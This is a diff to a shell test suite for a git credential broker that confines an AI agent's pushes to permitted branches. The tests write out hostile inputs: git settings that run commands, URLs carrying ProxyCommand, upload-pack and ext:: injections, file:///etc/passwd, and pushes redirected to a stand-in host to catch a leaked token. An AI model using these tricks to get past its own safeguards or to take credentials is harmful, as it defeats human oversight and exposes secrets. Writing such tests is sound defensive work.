@@ -53,8 +53,7 @@ check "ssh: what is blocked is blocked" says 'remote rejected\] claude/s -> main
     fails agent "cd ssh && git push --no-verify origin claude/s:main"
 check "submodules: added, committed, pushed, and cloned with --recurse-submodules" agent "cd app && git submodule --quiet add $https/part.git part &&
     git commit -qm sub && git push -q origin claude/first && cd .. && git clone -q --recurse-submodules -b claude/first $https/app.git subs && grep two subs/part/file"
-check "two pushes at once both arrive" agent "cp -r app two && (cd app && git push -q origin HEAD:claude/p1) & cd /tmp/w/app && git push -q origin HEAD:claude/p2 && wait \$! && wait"
-within 10 as_git git -C /srv/git/app.git rev-parse -q --verify claude/p1
+check "two pushes at once both arrive" agent "cd app && git push -q origin HEAD:claude/p1 & (cd app && git push -q origin HEAD:claude/p2) && wait \$!"
 check "the upstream has both" test "$(ref app claude/p1) $(ref app claude/p2)" != "- -"
 
 # row allowed|refused REF... -- COMMAND: a line of the table, and whether it went as it should.
@@ -123,3 +122,96 @@ printf '\n  %-62s | %-17s | %-17s | %s\n' push "upstream before" "upstream after
 printf '  %s\n' "${rows[@]}"
 echo
 check "the hooks say it before anything is sent" says 'rcc: refs/heads/main: protected by rcc' -- fails agent "cd app && git push origin work:main"
+
+# What the agent writes is its own: with it git goes elsewhere or fails, and what it gets is no credential.
+logged() { grep -c "$1" "/mnt/log/$2" || true; }
+for setting in core.sshCommand='touch /tmp/w/ran;' credential.helper='!touch /tmp/w/ran;' core.fsmonitor='touch /tmp/w/ran;' \
+    http.extraHeader='X-Mine: 1' core.hooksPath=/tmp/w/app include.path=/tmp/w/own protocol.ext.allow=always \
+    http.proxy=http://203.0.113.50:8443 credential.useHttpPath=true; do
+    check "with the agent's own ${setting%%=*} main stays blocked" says 'protected by rcc' -- \
+        fails agent "cd app && git config --global ${setting%%=*} $(printf %q "${setting#*=}") && git push --no-verify origin work:main"
+    agent "git config --global --unset-all ${setting%%=*}"
+done
+check "and so with such in its repository, and in GIT_* variables" says 'protected by rcc' -- fails agent "cd app &&
+    GIT_SSH_COMMAND='touch /tmp/w/ran;' GIT_ASKPASS=/bin/false GIT_TRACE_CURL=1 GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=http.sslVerify \
+    GIT_CONFIG_VALUE_0=false git -c remote.origin.receivepack='touch /tmp/w/ran;' -c core.gitProxy=/bin/false push --no-verify origin work:main"
+check "another host gets no credential, by a new URL" fails agent "cd app && git remote set-url origin https://elsewhere.test:8443/app.git &&
+    GIT_SSL_NO_VERIFY=1 git push --no-verify origin work:main"
+check "nor by a pushurl, nor by another insteadOf" fails agent "cd app && git remote set-url origin $https/app.git && git config remote.origin.pushurl https://elsewhere.test:8443/app.git &&
+    GIT_SSL_NO_VERIFY=1 git push --no-verify origin work:claude/e || { git config --unset remote.origin.pushurl
+    GIT_SSL_NO_VERIFY=1 git -c url.https://elsewhere.test:8443/app.git.insteadOf=rcc::https://forge.test/app.git push --no-verify origin work:claude/e
+    GIT_SSL_NO_VERIFY=1 git -c url.https://elsewhere.test:8443/.insteadOf=https://forge.test/ ls-remote https://forge.test/app.git; }"
+check "control: the other host was asked" test "$(logged none elsewhere)" -gt 1
+check "the other host saw nobody's credential" test "$(logged -e 'right\|wrong' elsewhere)" = 0
+check "without the system's configuration there is none either" fails agent "GIT_SSL_NO_VERIFY=1 GIT_CONFIG_NOSYSTEM=1 git ls-remote $https/app.git"
+check "a submodule's URL runs nothing" fails agent "cd two && git config -f .gitmodules submodule.x.path x && git config -f .gitmodules submodule.x.url 'ext::touch /tmp/w/ran' &&
+    git update-index --add --cacheinfo 160000 \$(git rev-parse HEAD) x && git submodule update --init x"
+check "of all that nothing ran with rcc behind it" never_says canary -- agent "ls -la /tmp/w"
+
+client() { inside agent "/usr/bin/python3 -c $(printf %q "$(<"$lib/git_client.py")") $*"; }
+check "the socket: what is right is answered" says started refs/heads/main -- client git-receive-pack "$https/app.git"
+for url in https://elsewhere.test:8443/app.git https://elsewhere.test/app.git https://forge.test:8443/app.git http://forge.test/app.git \
+    https://forge.test@elsewhere.test/app.git https://forge.test%2f@elsewhere.test/app.git ssh://git@elsewhere.test/srv/git/ssh/app.git \
+    https://forge.test/other.git https://forge.test/part.git/../ssh/app.git https://forge.test/app.git%2f..%2fssh/app.git \
+    ssh://git@forge.test/srv/git/app.git ssh://root@forge.test/srv/git/ssh/app.git ssh://-oProxyCommand=id@forge.test/srv/git/ssh/app.git \
+    ext::id /srv/git/app.git file:///etc/passwd git@forge.test:--upload-pack=id rcc::https://forge.test/app.git; do
+    check "the socket refuses $url" says '"refused"' -- client git-upload-pack "'$url'"
+done
+for service in git-upload-archive sh git-upload-pack\;id; do
+    check "the socket refuses the service $service" says 'refused|"success":false' -- client "'$service'" "$https/app.git"
+done
+check "what a server repeats of its header is not told" never_says "$canary|$(printf 'x-access-token:%s' "$canary" | base64 -w0)" -- \
+    agent "git ls-remote $https/echo/x; git clone $https/echo/x; cd app; git push --no-verify $https/echo/x work:claude/x || true"
+
+# A push that is slow at the upstream, and what ends in its midst.
+as_git sh -c 'printf "#!/bin/sh\nif [ -e /srv/git/slow ]; then sleep 2; fi\n" >/srv/git/app.git/hooks/pre-receive; chmod +x /srv/git/app.git/hooks/pre-receive'
+mid_push() {
+    as_git touch /srv/git/slow
+    agent "cd app && git commit -q --allow-empty -m $1 && { git push --no-verify origin work:claude/$1 >/tmp/w/said 2>&1 & } ; sleep 1.2"
+}
+by_command() {
+    local cmdline
+    for cmdline in /proc/[0-9]*/cmdline; do
+        if tr '\0' ' ' <"$cmdline" 2>/dev/null | grep -qE -- "$1"; then basename "$(dirname "$cmdline")"; fi
+    done
+}
+whole() { as_git git -C /srv/git/app.git fsck --connectivity-only && [[ $1 == - || $1 =~ ^[0-9a-f]{7,}$ ]]; }
+where_is_it() {
+    local file found=0
+    for file in /proc/[0-9]*/cmdline; do
+        if tr '\0' ' ' <"$file" 2>/dev/null | grep -v "^python3 /run/checks/lib/git_server.py" | grep -qF -- "$1"; then
+            echo "$file: $(tr '\0' ' ' <"$file")"; found=1
+        fi
+    done
+    return "$found"
+}
+mid_push k0
+check "in the midst of a push the token is in no process's arguments" where_is_it "$canary"
+sleep 3
+for victim in 'guest git-serve' 'git receive-pack' 'proc-receive' 'git push --porcelain' plugin-chamber; do
+    mid_push "k-${victim//[^a-z]/}"
+    mapfile -t ids < <(by_command "$victim")
+    check "control: there is something to kill of '$victim'" test ${#ids[@]} -gt 0
+    kill -9 "${ids[@]}" 2>/dev/null
+    rm -f /srv/git/slow
+    sleep 2.5
+    check "killed: $victim: the upstream is whole" whole "$(ref app "claude/k-${victim//[^a-z]/}")"
+    check "killed: $victim: the next push works" agent "cd app && git push -q --no-verify origin work:claude/k-${victim//[^a-z]/}"
+    check "killed: $victim: and is there" test "$(ref app "claude/k-${victim//[^a-z]/}")" = "$(agent 'git -C app rev-parse --short work' | head -1)"
+done
+
+check "the journal has each decision" says 'allowed.*refs/heads/claude/x' 'refused.*refs/heads/main.*protected by rcc' 'refused.*refs/tags/v1' 'refused.*refs/for/main' -- as-user dev rcc plugin logs
+check "the journal verifies" says whole -- as-user dev rcc plugin logs --verify
+
+# The canary is looked for backwards, so that who looks is not what is found.
+backwards=$(rev <<<"$canary")
+check "the token is in the memory of none of the agent's processes" inside agent "/usr/bin/python3 -c $(printf %q "$(<"$lib/memory.py")") $backwards"
+encoded=$(printf 'x-access-token:%s' "$canary" | base64 -w0 | rev)
+check "nor in a file that the agent can read, an environment, arguments" \
+    agent "! grep -rslF -f <(printf '%s\n' $backwards $encoded | rev) /tmp /run /home /etc /var /dev/shm /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null"
+check "the key is not there" fails agent 'ls /home/dev/keys/forge || grep -rsl "OPENSSH PRIVATE" /tmp /run /home'
+check "neither is in what the broker keeps" fails grep -rF -e "$canary" -e "$(sed -n 2p /home/dev/keys/forge)" /home/dev/.local /run/user /tmp
+pid=$(by_command 'plugin start --detach|rcc plugin start' | head -1)
+check "control: the broker runs" test -n "$pid"
+kill -9 "$pid"
+check "without a broker there is no push, and no credential" fails agent "cd app && git push --no-verify origin work:claude/x"
